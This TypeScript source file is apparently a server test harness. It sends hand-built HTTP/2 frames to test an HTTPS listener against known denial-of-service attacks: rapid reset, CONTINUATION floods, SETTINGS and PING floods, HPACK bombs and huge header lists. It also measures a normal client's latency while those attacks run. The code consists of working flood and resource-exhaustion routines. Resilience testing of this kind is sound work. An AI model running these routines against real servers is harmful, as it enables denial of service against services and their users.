/**
 * HTTP/2 attacks written as raw frames over TLS (ALPN h2), so a test can send what
 * no well-behaved client library would: HEADERS+RST_STREAM pairs (rapid reset,
 * CVE-2023-44487), endless CONTINUATION frames, SETTINGS and PING floods, and
 * HPACK bombs. Each attack returns what the server did (GOAWAY code, close time)
 * so `npm test` can run it with small numbers and the torture runner with big ones.
 */
import tls from 'node:tls'
import http2 from 'node:http2'

/** Where to attack: an https listener and the name to ask for. */
export interface H2Target {
  port: number
  host?: string
  /** SNI and :authority. */
  servername: string
  /** Keep our side open after the server's FIN, as a client that never closes would (default false). */
  halfOpen?: boolean
}

const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
/** RFC 9113 §7 error codes the tests look for. */
export const H2_ERROR = { NO_ERROR: 0, PROTOCOL_ERROR: 1, INTERNAL_ERROR: 2, FLOW_CONTROL_ERROR: 3, CANCEL: 8, COMPRESSION_ERROR: 9, ENHANCE_YOUR_CALM: 11 } as const

/** One frame: a 9-byte header and its payload. */
export function frame (type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId & 0x7fffffff, 5)
  return Buffer.concat([head, payload])
}

/** An HPACK string literal, no Huffman (RFC 7541 §5.2), with the 7-bit prefix integer. */
function hpackString (value: string | Buffer): Buffer {
  const bytes = typeof value === 'string' ? Buffer.from(value, 'latin1') : value
  return Buffer.concat([hpackInt(bytes.length, 7, 0), bytes])
}

/** An HPACK integer with an N-bit prefix (RFC 7541 §5.1); `high` fills the bits above the prefix. */
function hpackInt (n: number, prefixBits: number, high: number): Buffer {
  const max = (1 << prefixBits) - 1
  if (n < max) return Buffer.from([high | n])
  const out = [high | max]
  n -= max
  while (n >= 128) { out.push((n % 128) + 128); n = Math.floor(n / 128) }
  out.push(n)
  return Buffer.from(out)
}

/** A literal header field without indexing, new name (RFC 7541 §6.2.2). */
export function literalHeader (name: string, value: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from([0x00]), hpackString(name), hpackString(value)])
}

/** The header block of `GET https://authority/path` (static-table indices; RFC 7541 Appendix A). */
export function requestBlock (authority: string, path: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x87]), // :method GET, :scheme https
    Buffer.concat([Buffer.from([0x04]), hpackString(path)]), // :path, literal without indexing (name index 4)
    Buffer.concat([Buffer.from([0x01]), hpackString(authority)]) // :authority (name index 1)
  ])
}

/** What the server did on a raw connection. */
export interface ConnectionOutcome {
  /** The GOAWAY the server sent, if any. */
  goaway?: { errorCode: number, lastStreamId: number, atMs: number }
  /** Response HEADERS frames received (by stream id). */
  responses: number[]
  /** Streams the server ended (END_STREAM on HEADERS or DATA). */
  ended: number[]
  /** RST_STREAM frames the server sent, by error code. */
  resets: Record<number, number>
  /** When the TCP connection closed, ms after the attack's first write (undefined: still open at the bound). */
  closedAtMs?: number
  /** Bytes the server wrote to us. */
  bytesIn: number
}

/** A raw HTTP/2 connection: writes frames as given, parses what comes back. */
export interface RawH2 {
  readonly outcome: ConnectionOutcome
  write (data: Buffer): boolean
  /** Resolves when the socket closes, or after `boundMs` (then the outcome says it is still open). */
  closed (boundMs: number): Promise<ConnectionOutcome>
  /** Resolves once the server sent a GOAWAY or closed, or after `boundMs`. */
  goawayOrClose (boundMs: number): Promise<ConnectionOutcome>
  /** Resolves once `done(outcome)` holds, the connection closed, or `boundMs` passed. */
  until (done: (outcome: ConnectionOutcome) => boolean, boundMs: number): Promise<ConnectionOutcome>
  /** After a write returned false: true once the socket drained, false if it did not within `boundMs` or closed. */
  drained (boundMs: number): Promise<boolean>
  /** Stops reading the socket (flood attacks that never read their ACKs). */
  pauseReading (): void
  resumeReading (): void
  destroy (): void
}

/** Connects, sends the preface and an empty SETTINGS, and parses the server's frames. */
export function openRawH2 (target: H2Target): Promise<RawH2> {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ port: target.port, host: target.host ?? '127.0.0.1', servername: target.servername, ALPNProtocols: ['h2'], rejectUnauthorized: false, allowHalfOpen: target.halfOpen === true } as tls.ConnectionOptions)
    const outcome: ConnectionOutcome = { responses: [], ended: [], resets: {}, bytesIn: 0 }
    let t0 = Date.now()
    let buf: Buffer = Buffer.alloc(0)
    let isClosed = false
    const waiters = new Set<() => void>()
    const notify = (): void => { for (const w of waiters) w() }
    socket.on('error', () => {})
    // With halfOpen, the server's FIN counts as its close: we only learn whether it ended its side.
    socket.on('end', () => {
      if (target.halfOpen !== true) return
      isClosed = true
      outcome.closedAtMs = Date.now() - t0
      notify()
    })
    socket.on('close', () => {
      if (isClosed) return
      isClosed = true
      outcome.closedAtMs = Date.now() - t0
      notify()
    })
    socket.on('data', (chunk: Buffer) => {
      outcome.bytesIn += chunk.length
      buf = buf.length === 0 ? chunk : Buffer.concat([buf, chunk])
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3)
        if (buf.length < 9 + len) break
        const type = buf[3]
        const flags = buf[4]
        const stream = buf.readUInt32BE(5) & 0x7fffffff
        const payload = buf.subarray(9, 9 + len)
        buf = buf.subarray(9 + len)
        if ((type === FRAME.HEADERS || type === FRAME.DATA) && (flags & FLAG.END_STREAM) !== 0) { outcome.ended.push(stream); notify() }
        if (type === FRAME.SETTINGS && (flags & FLAG.ACK) === 0 && socket.writable) socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0))
        else if (type === FRAME.HEADERS) { outcome.responses.push(stream); notify() }
        else if (type === FRAME.RST_STREAM) { const code = payload.readUInt32BE(0); outcome.resets[code] = (outcome.resets[code] ?? 0) + 1; notify() }
        else if (type === FRAME.GOAWAY && outcome.goaway === undefined) {
          outcome.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4), atMs: Date.now() - t0 }
          notify()
        }
      }
    })
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') { socket.destroy(); reject(new Error(`server chose ALPN ${String(socket.alpnProtocol)}, not h2`)); return }
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]))
      t0 = Date.now()
      const wait = (boundMs: number, done: () => boolean): Promise<ConnectionOutcome> => new Promise((resolve) => {
        const check = (): void => { if (done()) finish() }
        const timer = setTimeout(() => { finish() }, boundMs)
        const finish = (): void => { clearTimeout(timer); waiters.delete(check); resolve(outcome) }
        waiters.add(check)
        check()
      })
      resolve({
        outcome,
        write: (data) => socket.writable && socket.write(data),
        drained: (boundMs) => new Promise((resolve) => {
          const finish = (ok: boolean): void => { clearTimeout(timer); socket.off('drain', onDrain); socket.off('close', onClose); resolve(ok) }
          const onDrain = (): void => { finish(true) }
          const onClose = (): void => { finish(false) }
          const timer = setTimeout(() => { finish(false) }, boundMs)
          socket.once('drain', onDrain)
          socket.once('close', onClose)
        }),
        closed: (boundMs) => wait(boundMs, () => isClosed),
        goawayOrClose: (boundMs) => wait(boundMs, () => isClosed || outcome.goaway !== undefined),
        until: (done, boundMs) => wait(boundMs, () => isClosed || done(outcome)),
        pauseReading: () => { socket.pause() },
        resumeReading: () => { socket.resume() },
        destroy: () => { socket.destroy() }
      })
    })
    socket.once('error', reject)
  })
}

/**
 * Rapid reset (CVE-2023-44487): `streams` HEADERS+RST_STREAM(CANCEL) pairs on one
 * connection, written in batches back to back. Resolves once the server closed
 * the connection or `boundMs` passed.
 */
export async function rapidReset (target: H2Target, options: { streams: number, path?: string, batch?: number, boundMs?: number, abandon?: boolean }): Promise<ConnectionOutcome & { sent: number, release: () => void }> {
  const conn = await openRawH2(target)
  const sent = await sendResetPairs(conn, target, { firstId: 1, streams: options.streams, path: options.path, batch: options.batch })
  // `abandon`: move on at the GOAWAY and leave the connection open, as an attacker opening
  // the next one would; `release` closes it (teardown). Else wait for the server to close it.
  const outcome = { ...await (options.abandon === true ? conn.goawayOrClose(options.boundMs ?? 10_000) : conn.closed(options.boundMs ?? 10_000)) }
  if (options.abandon !== true) conn.destroy()
  return { ...outcome, sent, release: () => { conn.destroy() } }
}

/** Writes HEADERS+RST_STREAM(CANCEL) pairs from stream `firstId` on; resolves with how many were written. */
export async function sendResetPairs (conn: RawH2, target: H2Target, options: { firstId: number, streams: number, path?: string, batch?: number }): Promise<number> {
  const batch = options.batch ?? 100
  const block = requestBlock(target.servername, options.path ?? '/rapid-reset')
  let id = options.firstId
  let sent = 0
  while (sent < options.streams && conn.outcome.closedAtMs === undefined) {
    const frames: Buffer[] = []
    for (let i = 0; i < batch && sent < options.streams; i++, sent++, id += 2) {
      frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block), resetFrame(id))
    }
    if (!conn.write(Buffer.concat(frames)) && !await conn.drained(2000)) break
  }
  return sent
}

/**
 * "Slow" rapid reset: HEADERS for `batch` streams, then, once `dispatched()` says they
 * reached the VM (or `waitMs` passed), their RST_STREAMs; repeated up to `streams`.
 * Each reset then cancels a request already forwarded, which only a reset budget stops.
 */
export async function resetAfterDispatch (target: H2Target, options: { streams: number, batch?: number, waitMs?: number, dispatched?: () => number, path?: string, boundMs?: number }): Promise<ConnectionOutcome & { sent: number }> {
  const conn = await openRawH2(target)
  const batch = options.batch ?? 50
  const block = requestBlock(target.servername, options.path ?? '/reset-after-dispatch')
  let id = 1
  let sent = 0
  while (sent < options.streams && conn.outcome.closedAtMs === undefined && conn.outcome.goaway === undefined) {
    const ids: number[] = []
    for (let i = 0; i < batch && sent < options.streams; i++, sent++, id += 2) ids.push(id)
    const before = options.dispatched?.() ?? 0
    conn.write(Buffer.concat(ids.map((s) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, s, block))))
    const deadline = Date.now() + (options.waitMs ?? 200)
    while (Date.now() < deadline && (options.dispatched === undefined || options.dispatched() - before < ids.length) && conn.outcome.goaway === undefined) {
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
    conn.write(Buffer.concat(ids.map(resetFrame)))
  }
  const outcome = { ...await conn.goawayOrClose(options.boundMs ?? 5000) }
  conn.destroy()
  return { ...outcome, sent }
}

/** RST_STREAM(CANCEL), as a browser sends when it abandons a request. */
export function resetFrame (id: number): Buffer {
  const code = Buffer.alloc(4)
  code.writeUInt32BE(H2_ERROR.CANCEL)
  return frame(FRAME.RST_STREAM, 0, id, code)
}

/** Sends GETs on streams `ids` at once and resolves with how many responses were complete (END_STREAM). */
export async function rawGets (conn: RawH2, target: H2Target, ids: number[], path: string, boundMs = 5000): Promise<number> {
  const block = requestBlock(target.servername, path)
  conn.write(Buffer.concat(ids.map((id) => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block))))
  const answered = (o: ConnectionOutcome): number => ids.filter((id) => o.ended.includes(id)).length
  return answered(await conn.until((o) => answered(o) === ids.length, boundMs))
}

/** Sends one GET on stream `id` and resolves once its response HEADERS (or a reset of it) arrived. */
export async function rawGet (conn: RawH2, target: H2Target, id: number, path: string, boundMs = 5000): Promise<'response' | 'reset' | 'none'> {
  const resetsBefore = Object.values(conn.outcome.resets).reduce((a, b) => a + b, 0)
  conn.write(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestBlock(target.servername, path)))
  const resets = (o: ConnectionOutcome): number => Object.values(o.resets).reduce((a, b) => a + b, 0)
  const outcome = await conn.until((o) => o.responses.includes(id) || resets(o) > resetsBefore, boundMs)
  return outcome.responses.includes(id) ? 'response' : resets(outcome) > resetsBefore ? 'reset' : 'none'
}

/**
 * CONTINUATION flood (CVE-2024-27983 class): a HEADERS frame without END_HEADERS,
 * then up to `frames` CONTINUATION frames that never end the block.
 */
export async function continuationFlood (target: H2Target, options: { frames: number, boundMs?: number }): Promise<ConnectionOutcome & { sent: number }> {
  const conn = await openRawH2(target)
  conn.write(frame(FRAME.HEADERS, FLAG.END_STREAM, 1, requestBlock(target.servername, '/continuation')))
  let sent = 0
  for (; sent < options.frames && conn.outcome.closedAtMs === undefined; sent++) {
    if (!conn.write(frame(FRAME.CONTINUATION, 0, 1, literalHeader(`x-c${sent}`, 'v'.repeat(64)))) && !await conn.drained(2000)) break
  }
  const outcome = { ...await conn.goawayOrClose(options.boundMs ?? 10_000) }
  conn.destroy()
  return { ...outcome, sent }
}

/**
 * SETTINGS or PING flood (CVE-2019-9515 / -9512): `frames` frames that each demand
 * an ACK, while never reading the socket, so the ACKs can only pile up server-side.
 */
export async function ackFlood (target: H2Target, options: { kind: 'settings' | 'ping', frames: number, boundMs?: number }): Promise<ConnectionOutcome & { sent: number }> {
  const conn = await openRawH2(target)
  conn.pauseReading()
  const one = options.kind === 'settings'
    ? frame(FRAME.SETTINGS, 0, 0, Buffer.from([0x00, 0x04, 0x00, 0x00, 0xff, 0xff])) // INITIAL_WINDOW_SIZE 65535
    : frame(FRAME.PING, 0, 0, Buffer.alloc(8, 7))
  const batch = Buffer.concat(Array.from({ length: 256 }, () => one))
  let sent = 0
  const started = Date.now()
  const bound = options.boundMs ?? 10_000
  // Stop when the server stops reading us (writes back up) for long: that is refusal too.
  while (sent < options.frames && conn.outcome.closedAtMs === undefined && Date.now() - started < bound) {
    sent += 256
    if (!conn.write(batch) && !await conn.drained(1000)) break
  }
  // Read again: a server that refused the flood has sent GOAWAY and closed by now.
  conn.resumeReading()
  const outcome = { ...await conn.goawayOrClose(Math.max(1000, bound - (Date.now() - started))) }
  conn.destroy()
  return { ...outcome, sent }
}

/**
 * HPACK bomb (CVE-2016-6581 class): one header of `valueBytes` added to the dynamic
 * table, then referenced `refs` times by its 1-byte index, so a small frame
 * decodes to a huge header list.
 */
export async function hpackBomb (target: H2Target, options: { refs: number, valueBytes?: number, boundMs?: number }): Promise<ConnectionOutcome> {
  const conn = await openRawH2(target)
  const value = 'b'.repeat(options.valueBytes ?? 4000)
  // Literal with incremental indexing, new name (0x40): lands at dynamic index 62 (0xbe as an indexed field).
  const add = Buffer.concat([Buffer.from([0x40]), hpackString('x-bomb'), hpackString(value)])
  const refs = Buffer.alloc(options.refs, 0xbe)
  const block = Buffer.concat([requestBlock(target.servername, '/hpack-bomb'), add, refs])
  conn.write(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1, block))
  // Refused: the stream is reset or answered by the listener itself, or the connection goes away.
  const outcome = { ...await conn.until((o) => o.responses.length > 0 || Object.keys(o.resets).length > 0 || o.goaway !== undefined, options.boundMs ?? 3000) }
  conn.destroy()
  return outcome
}

/**
 * A huge header list in one HEADERS frame: `headers` fields of `valueBytes` each (past the
 * listener's header count or size limits). Resolves with what became of the stream.
 */
export async function hugeHeaderList (target: H2Target, options: { headers: number, valueBytes: number, boundMs?: number }): Promise<ConnectionOutcome & { stream: 'response' | 'reset' | 'none' }> {
  const conn = await openRawH2(target)
  const fields = Array.from({ length: options.headers }, (_, i) => literalHeader(`x-h${i}`, 'h'.repeat(options.valueBytes)))
  const block = Buffer.concat([requestBlock(target.servername, '/huge-headers'), ...fields])
  // Split into frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
  const frames: Buffer[] = []
  for (let off = 0; off < block.length || off === 0; off += 16384) {
    const part = block.subarray(off, off + 16384)
    const last = off + 16384 >= block.length
    frames.push(frame(off === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (last ? FLAG.END_HEADERS : 0) | (off === 0 ? FLAG.END_STREAM : 0), 1, part))
  }
  conn.write(Buffer.concat(frames))
  const outcome = { ...await conn.until((o) => o.responses.includes(1) || Object.keys(o.resets).length > 0 || o.goaway !== undefined, options.boundMs ?? 3000) }
  conn.destroy()
  const stream = outcome.responses.includes(1) ? 'response' : Object.keys(outcome.resets).length > 0 || outcome.goaway !== undefined ? 'reset' : 'none'
  return { ...outcome, stream }
}

/**
 * Latencies (ms) of sequential GETs by a well-behaved HTTP/2 client on its own connection,
 * until `until` settles, `requests` were made, or `deadlineMs` passed (whichever first).
 * A request slower than `timeoutMs` is cancelled and counted as a failure.
 */
export async function normalClient (target: H2Target, path: string, options: { until?: Promise<unknown>, requests?: number, deadlineMs?: number, timeoutMs?: number }): Promise<{ latencies: number[], failures: number }> {
  let done = false
  void options.until?.finally(() => { done = true })
  const deadline = Date.now() + (options.deadlineMs ?? 60_000)
  const session = http2.connect(`https://${target.host ?? '127.0.0.1'}:${target.port}`, { servername: target.servername, rejectUnauthorized: false })
  session.on('error', () => {})
  const latencies: number[] = []
  let failures = 0
  try {
    do {
      const start = performance.now()
      const status = await new Promise<number>((resolve) => {
        const stream = session.request({ ':path': path, ':authority': target.servername })
        // A request that takes longer counts as failed, so an attack that stalls the VM ends in bounded time.
        stream.setTimeout(options.timeoutMs ?? 5000, () => { stream.close(http2.constants.NGHTTP2_CANCEL) })
        let code = 0
        stream.on('response', (h) => { code = Number(h[':status']) })
        stream.on('error', () => { resolve(0) })
        stream.resume()
        stream.on('close', () => { resolve(code) })
      })
      latencies.push(performance.now() - start)
      if (status !== 200) failures++
    } while (!done && latencies.length < (options.requests ?? Infinity) && Date.now() < deadline)
  } finally {
    session.destroy()
  }
  return { latencies, failures }
}

/** The q-quantile (0..1) of a list of numbers. */
export function quantile (values: number[], q: number): number {
  if (values.length === 0) return NaN
  const sorted = [...values].sort((a, b) => a - b)
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))]
}
